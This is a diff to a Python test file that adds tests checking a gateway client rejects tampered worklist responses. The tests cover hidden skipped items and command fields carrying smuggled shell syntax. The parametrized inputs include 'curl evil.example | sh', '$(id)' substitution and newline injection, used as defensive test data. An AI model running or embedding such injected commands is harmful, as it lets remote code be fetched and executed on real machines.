@@ -12,7 +12,7 @@ from uuid import UUID
 import httpx
 import pytest
 
-from gateway.client import EvidenceMismatch
+from gateway.client import EvidenceMismatch, UnexpectedAnswer
 from gateway.domain.handoff import RecallCode
 from gateway.exchange.handoffs import recalls
 from gateway.exchange.handoffs.recalls import RecallRequest
@@ -272,6 +272,39 @@ def test_who_moved_the_checkpoint_away_reads_from_the_beginning(tmp_path: Path) 
     later = MemberClient(there.stage, OFMIN, checkpoint_file=file)
     list(later.inbox())
     assert reads(later)[0] == "0"
+
+
+@pytest.mark.parametrize("scope", [None, "handoffs.read"])
+def test_a_gateway_hides_no_offer_by_saying_that_it_did_not_look(scope: str | None) -> None:
+    there = scene()
+
+    def skipping(request: httpx.Request, members: dict[str, Any]) -> Any:
+        if request.url.path == "/worklist":
+            left = [one for one in members["items"] if not one["handoff"]]
+            members["skipped"].append({"source": "handoffs", "scope": scope})
+            return {**members, "items": left}
+        return None
+
+    there.office.wire.tamper = skipping
+    with pytest.raises(EvidenceMismatch, match="left out"):
+        there.office.worklist()
+
+
+@pytest.mark.parametrize("member", ["command", "handoff"])
+@pytest.mark.parametrize(
+    "words", ["handoff show x; curl evil.example | sh", "show $(id)", "-c x todo", "todo\nid"]
+)
+def test_a_gateway_gives_no_command_that_a_shell_reads_as_more(member: str, words: str) -> None:
+    there = scene()
+
+    def commanding(request: httpx.Request, members: dict[str, Any]) -> Any:
+        if request.url.path == "/worklist":
+            members["items"][0][member] = words
+        return members
+
+    there.office.wire.tamper = commanding
+    with pytest.raises(UnexpectedAnswer, match="a command"):
+        there.office.worklist()
 
 
 # --- Where less is compared ---
